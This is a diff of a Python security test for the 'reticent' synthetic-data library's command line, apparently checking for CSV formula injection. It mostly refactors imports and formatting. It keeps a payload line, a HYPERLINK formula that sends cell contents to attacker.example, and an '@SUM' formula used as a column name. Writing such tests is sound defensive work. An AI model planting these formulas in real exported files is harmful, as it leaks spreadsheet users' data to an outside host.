@@ -1,4 +1,7 @@
-"""Formulas in CSV files that the command line writes: text that a spreadsheet program runs when the file is opened."""
+"""Formulas in CSV files that the command line writes.
+
+Text that a spreadsheet program runs when the file is opened.
+"""
 
 import csv
 from pathlib import Path
@@ -7,7 +10,7 @@ import numpy as np
 from typer.testing import CliRunner
 
 import reticent
-from reticent.apps.cli import app
+from reticent.cli.main import app
 from tests.attacks.harness import Outcome, attack
 
 _RUN = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
@@ -60,6 +63,8 @@ def columns() -> Outcome:
 
     data = pd.DataFrame({_RUN: np.linspace(0, 1, 300), "@SUM(1+1)": np.linspace(0, 1, 300)})
     bounds = reticent.Bounds(x={_RUN: (0, 1), "@SUM(1+1)": (0, 1)})
-    reticent.GaussianMixture(n_components=1, bounds=bounds, epsilon=5, delta=1e-6).fit(data).save("m.reticent")
+    reticent.GaussianMixture(n_components=1, bounds=bounds, epsilon=5, delta=1e-6).fit(data).save(
+        "m.reticent"
+    )
     _called("sample", "m.reticent", "-n", "5", "--out", "synthetic.csv")
     return _outcome("synthetic.csv")
